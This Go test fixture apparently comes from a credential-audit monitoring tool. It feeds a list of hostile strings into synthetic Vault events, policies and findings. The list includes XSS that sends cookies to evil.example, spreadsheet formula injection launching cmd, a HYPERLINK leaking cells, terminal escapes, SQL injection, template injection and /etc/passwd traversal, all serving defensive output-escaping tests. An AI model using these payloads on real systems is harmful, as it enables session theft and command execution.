package hostile

import (
	"fmt"
	"strings"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	"github.com/leastwise/leastwise/schemas"
	pb "github.com/leastwise/leastwise/schemas/leastwisev1"
)

// texts are what an agent may choose for its session name, its user agent, a claim or a path it asks for, when it wants
// more than to be shown. What acts in a page sets window.acted, opens a dialog or asks another host.
var texts = []string{
	`<img src=x onerror="window.acted=1;fetch('//evil.example/'+document.cookie)">`,
	`<script>window.acted=1</script>`,
	`"><svg/onload=window.acted=1><a href="javascript:window.acted=1">`,
	`javascript:window.acted=1//`,
	`https://evil.example/login?next=javascript:alert(1)`,
	`=HYPERLINK("http://evil.example/?c="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"-2+3\r\n=1+1\t@a",
	"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b[2J\x1b[31mred\x1b[0m\u009b31m",
	"\u202egnp.exe\u202c\u2066a\u2069\u200b\ufeff",
	"nul\x00nul\x7f\u0085\u2028\u2029",
	`{{7*7}}${7*7}#{7*7}<%= 7*7 %>{%print 1%}`,
	`[click](http://evil.example) <http://evil.example|click> <!channel> <@U012345> @everyone *b* _i_ ~s~`,
	`'; DROP TABLE events; -- \' OR 1=1 {x:String} %27 %s %n ?`,
	`../../../etc/passwd?a=b&c=d#e%2f%00 "quoted" 'single'`,
	"a" + strings.Repeat("\u0301", 40) + " \U0001F469\u200d\U0001F4BB",
	strings.Repeat("W", 3000),
}

func keyOf(text string) string { return "vault/default/token/" + text }

func holderOf(text string) string { return "vault/default/entity/" + text }

// story is what collectors would publish of such a fleet.
type story struct {
	now    time.Time
	events []*pb.Event
}

func (s *story) ago(d time.Duration) *timestamppb.Timestamp { return timestamppb.New(s.now.Add(-d)) }

func (s *story) say(kind pb.Event_Kind, text string, ago time.Duration, change func(*pb.Event)) {
	record := fmt.Sprintf("r%d %s", len(s.events), text)
	id := schemas.EventID("vault", "default", record, 0)
	ev := &pb.Event{Id: id[:], Kind: kind, Credential: keyOf(text), Source: "vault", Instance: "default", OccurredAt: s.ago(ago), ObservedAt: s.ago(ago - time.Second),
		RecordId: record, Position: "audit.log:" + text, RemoteAddress: text, Action: text, Resource: text, Actor: keyOf(text),
		Labels: map[string]string{"role_name": text, "display_name": text, "user_agent": text, "agent_id": text, text: text}}
	change(ev)
	s.events = append(s.events, ev)
}

const day = 24 * time.Hour

func tell(now time.Time) *story {
	s := &story{now: now}
	for n, text := range texts {
		s.say(pb.Event_ISSUED, text, 9*day, func(ev *pb.Event) {
			ev.Principal, ev.Policies, ev.GrantedBy = holderOf(text), []string{"wide", text}, []string{text}
			ev.Lifetime = &pb.Lifetime{IssuedAt: s.ago(9 * day), ExpiresAt: s.ago(-30 * day)}
			if n > 0 {
				ev.Parent = keyOf(texts[n-1])
			}
		})
		if n > 0 {
			s.say(pb.Event_LINKED, texts[n-1], 9*day, func(ev *pb.Event) { ev.Child = keyOf(text) })
		}
		s.say(pb.Event_USED, text, time.Hour, func(ev *pb.Event) { ev.Permission, ev.Outcome = "read "+text, pb.Outcome_OUTCOME_SUCCESS })
		for i := range 6 {
			s.say(pb.Event_DENIED, text, time.Duration(i+1)*time.Hour, func(ev *pb.Event) {
				ev.Permission, ev.Outcome, ev.Error = fmt.Sprintf("update %d %s", i, text), pb.Outcome_OUTCOME_FAILURE, text
			})
		}
	}
	return s
}

func (s *story) facts() map[string]*pb.Fact {
	out := map[string]*pb.Fact{}
	for n, text := range texts {
		for _, id := range []string{"vault/default/policy/" + text, "vault/default/policy/wide"} {
			out[id] = &pb.Fact{Fact: &pb.Fact_Grant{Grant: &pb.Grant{Id: id, AsOf: s.ago(30 * day),
				Rules: []*pb.Rule{{Resource: "secret/*", Capabilities: []string{"create", "update", "read", "delete"}}, {Resource: text, Capabilities: []string{"read"}}}}}}
		}
		beat := &pb.Heartbeat{Source: "vault", Instance: text, At: s.ago(time.Second), LastRecordAt: s.ago(time.Minute), Records: 9, Events: 8, Trouble: text, Blind: n%2 == 0}
		out["heartbeat/vault/"+text] = &pb.Fact{Fact: &pb.Fact_Heartbeat{Heartbeat: beat}}
		link := &pb.Link{Id: schemas.LinkID("SAME_AS", holderOf(text), holderOf("friend")), Kind: pb.Link_SAME_AS, From: holderOf(text),
			To: "spire/example.org/spiffe_id/spiffe://example.org/" + text, Confidence: pb.Link_PROVEN, Evidence: text, At: s.ago(day)}
		out[link.Id] = &pb.Fact{Fact: &pb.Fact_Link{Link: link}}
		f := &pb.Finding{Source: "certlog", Instance: "argon", Kind: schemas.FindingLogShrunkTree, Subject: text, Standing: true, Detail: text, Evidence: []string{text},
			About: []string{keyOf(text), holderOf(text)}, Since: s.ago(day), At: s.ago(time.Hour)}
		out[schemas.FindingKey(f)] = &pb.Fact{Fact: &pb.Fact_Finding{Finding: f}}
	}
	return out
}

func (s *story) letters() (out []*pb.DeadLetter) {
	for n, text := range texts {
		id := schemas.EventID("vault", "default", fmt.Sprint("letter", n), 0)
		out = append(out, &pb.DeadLetter{Id: id[:], Source: "vault", Instance: text, Position: text, Reason: "malformed", Detail: text, Sha256: make([]byte, 32), Length: 9, Excerpt: text, ObservedAt: s.ago(time.Hour)})
	}
	return out
}

// policies that all of them stand past, with a revocation that no test lives to see.
const policies = `policy_id: "old"
description: "Too old."
metrics:
  - {name: credential_age, source: any, threshold: 1h, condition: greater_than}
action:
  - {severity: high, channel: security, remediation_hint: Renew it.}
enforcement: {mode: enforce, grace: 60d, revoke: true, reissue: true}
---
policy_id: "probes"
description: "Probes."
metrics:
  - {name: elevation_attempts, source: any, threshold: 3, condition: greater_than}
action:
  - {severity: critical, channel: security, remediation_hint: Look.}
`
